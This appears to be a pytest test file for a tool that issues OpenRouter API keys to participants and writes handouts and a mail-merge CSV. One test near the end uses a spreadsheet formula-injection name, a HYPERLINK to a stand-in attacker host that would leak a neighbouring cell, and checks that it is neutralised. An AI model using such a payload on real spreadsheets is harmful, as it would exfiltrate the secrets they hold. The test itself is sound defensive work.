"""Handouts: what a slip, the mail-merge file and the email say, and mail-merge.csv itself."""

from __future__ import annotations

import csv
import io
import secrets
import stat
from pathlib import Path

import pytest

from keyprov.handouts import (
    Handout,
    budget_in_words,
    first_name_of,
    handout_fields,
    last_day_date,
    last_day_in_words,
    limit_reset_in_words,
    quickstart_lines,
    render_mail_merge_csv,
    write_mail_merge_csv,
)
from keyprov.handouts.fonts import missing_characters
from keyprov.handouts.mailmerge import COLUMNS
from keyprov.handouts.wording import HANDOUT_FIELDS
from keyprov.redaction import mask_secret

NAMES = (
    "Zoë Ångström-Çelik",
    "山田太郎",
    "김민준",
    "محمد عبد الله",
    "דוד כהן",
    "Łukasz Żółć",
    "Ελένη Παπαδοπούλου",
    "Дмитрий Иванов",
)


def make_handout(index: int, *, name: str | None = None, **fields: object) -> Handout:
    """A participant with a fresh random key: a sentinel for where keys must (not) appear."""
    secret = "sk-or-v1-" + secrets.token_hex(32)
    values: dict[str, object] = {
        "identity": f"person{index}@example.org",
        "name": name if name is not None else NAMES[index % len(NAMES)],
        "email": f"person{index}@example.org",
        "secret": secret,
        "key_label": mask_secret(secret),
        "key_hash": secrets.token_hex(32),
        "limit": 2.0,
        "limit_reset": "monthly",
        "expires_at": "2026-12-05T23:59:59Z",
    }
    values.update(fields)
    return Handout(**values)  # type: ignore[arg-type]


# -- wording ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("expires_at", "words"),
    [
        ("2026-12-05T23:59:59Z", "until Saturday 5 December 2026, 23:59 UTC"),
        ("2026-12-05T23:59:59+00:00", "until Saturday 5 December 2026, 23:59 UTC"),
        ("2026-12-05T23:59:59.000Z", "until Saturday 5 December 2026, 23:59 UTC"),
        # Another zone is said in UTC, which is what OpenRouter goes by.
        ("2026-12-06T00:59:59+01:00", "until Saturday 5 December 2026, 23:59 UTC"),
        ("2026-01-01T00:00:00", "until Thursday 1 January 2026, 00:00 UTC"),
        (None, "no end date"),
    ],
)
def test_last_day_in_words(expires_at, words):
    assert last_day_in_words(expires_at) == words


def test_last_day_as_a_date_is_the_utc_day():
    assert last_day_date("2026-12-06T00:30:00+01:00") == "2026-12-05"
    assert last_day_date(None) == ""


def test_an_expiry_that_is_not_a_date_is_refused_by_name():
    with pytest.raises(ValueError, match="'next friday' is not an ISO 8601"):
        last_day_in_words("next friday")


@pytest.mark.parametrize(
    ("limit", "reset", "words"),
    [
        (2, "daily", "$2.00 per day, renewed every day at 00:00 UTC"),
        (2.5, "weekly", "$2.50 per week, renewed every Monday at 00:00 UTC"),
        (10, "monthly", "$10.00 per month, renewed on the 1st of every month at 00:00 UTC"),
        (1000, None, "$1,000.00 in total"),
        (None, "monthly", "no spending limit"),
        (None, None, "no spending limit"),
    ],
)
def test_budget_in_words(limit, reset, words):
    assert budget_in_words(limit, reset) == words


def test_limit_reset_in_words():
    assert limit_reset_in_words("weekly") == "renewed every Monday at 00:00 UTC"
    assert limit_reset_in_words(None) == "never (the limit is for the key's whole life)"
    with pytest.raises(ValueError, match="'yearly'"):
        limit_reset_in_words("yearly")


def test_the_default_quickstarts_are_shell_and_python_without_the_key():
    lines = quickstart_lines(("anthropic/claude-haiku-4.5", "openai/gpt-4o-mini"))
    assert lines[0].startswith("export OPENROUTER_API_KEY=")
    assert lines[1].startswith("curl https://openrouter.ai/api/v1/chat/completions ")
    assert '"model":"anthropic/claude-haiku-4.5"' in lines[1]
    assert lines[2] == "pip install openai"
    assert any('OpenAI(base_url="https://openrouter.ai/api/v1"' in line for line in lines)
    assert lines[-1] == "print(reply.choices[0].message.content)"
    assert not any("sk-or-" in line for line in lines)


@pytest.mark.parametrize(
    ("name", "first"),
    [
        ("Ada Lovelace", "Ada"),
        ("Lovelace, Ada", "Ada"),
        ("van der Berg, Anna Maria", "Anna"),
        ("Martin Luther King, Jr.", "Martin"),
        ("Lovelace,", "Lovelace"),
        ("Dr. Grace Hopper", "Grace"),
        ("山田太郎", "山田太郎"),
        ("محمد عبد الله", "محمد"),
        ("  Zoë  ", "Zoë"),
        ("", ""),
    ],
)
def test_first_name_is_derived_from_the_name(name, first):
    assert first_name_of(name) == first
    assert make_handout(0, name=name).first_name == first


def test_a_given_first_name_wins():
    assert make_handout(0, name="Lovelace Ada", first_name="Ada").first_name == "Ada"


def test_a_handout_never_shows_its_secret_in_repr():
    handout = make_handout(0)
    assert handout.secret not in repr(handout)
    assert handout.secret not in str(handout)
    assert handout.key_label in repr(handout)


def test_fields_masked_for_previews_hold_no_secret():
    handout = make_handout(0, replaces="sk-or-v1-abc...123")
    fields = handout_fields(handout, masked=True)
    assert handout.secret not in "".join(fields.values())
    assert fields["key"] == handout.key_label
    assert fields["replaces"] == (
        "This key replaces your previous key sk-or-v1-abc...123, which no longer works."
    )
    assert handout_fields(handout)["key"] == handout.secret


def test_the_named_fields_are_exactly_what_a_handout_fills_in():
    # The mail-merge columns and the template's placeholders are both read from this list;
    # a name in it that no handout fills would break a merge or a send at the first row.
    assert list(handout_fields(make_handout(0))) == list(HANDOUT_FIELDS)
    assert "key" in COLUMNS and "key_label" not in COLUMNS


def test_every_name_in_the_test_scripts_has_a_bundled_font():
    for name in NAMES:
        assert missing_characters(name) == "", name


def test_characters_no_bundled_font_has_are_named_once_each():
    # Devanagari is in none of them: the PDF would show empty boxes, so the caller can warn.
    assert missing_characters("Zoë देवदेव") == "देव"


# -- mail-merge.csv ---------------------------------------------------------------------------


def read_mail_merge(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(raw[3:].decode("utf-8"), newline="")))


def test_mail_merge_has_one_row_per_participant_with_their_own_key(tmp_path):
    handouts = [make_handout(i) for i in range(len(NAMES))]
    path = tmp_path / "mail-merge.csv"
    write_mail_merge_csv(path, handouts)

    rows = read_mail_merge(path)
    assert [row["name"] for row in rows] == list(NAMES)
    not_chosen = {"quickstart_powershell", "quickstart_colab"}
    assert list(rows[0]) == [column for column in COLUMNS if column not in not_chosen]
    content = path.read_bytes().decode("utf-8-sig")
    for handout, row in zip(handouts, rows, strict=True):
        assert row["email"] == handout.email
        assert row["key"] == handout.secret
        assert content.count(handout.secret) == 1
        assert row["first_name"] == handout.first_name
        assert row["limit"] == "$2.00"
        assert row["last_day"] == "until Saturday 5 December 2026, 23:59 UTC"
        assert row["last_day_date"] == "2026-12-05"
        assert row["quickstart"] == f"{row['quickstart_shell']}\n\n{row['quickstart_python']}"
        assert row["quickstart_env"] == "export OPENROUTER_API_KEY=<your key>"
        assert row["quickstart_curl"].startswith("curl ")


def test_mail_merge_is_private_and_written_whole(tmp_path):
    path = tmp_path / "mail-merge.csv"
    write_mail_merge_csv(path, [make_handout(0)])
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["mail-merge.csv"]


def test_a_name_that_a_spreadsheet_would_run_as_a_formula_is_kept_inert():
    handout = make_handout(0, name='=HYPERLINK("https://evil.example/?"&D3,"click")')
    (row,) = csv.DictReader(io.StringIO(render_mail_merge_csv([handout])))
    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&D3,"click")'
    assert row["key"] == handout.secret


def test_a_rotated_key_says_so_in_the_mail_merge():
    handout = make_handout(0, replaces="sk-or-v1-abc...123")
    (row,) = csv.DictReader(io.StringIO(render_mail_merge_csv([handout])))
    assert "replaces your previous key sk-or-v1-abc...123" in row["replaces"]
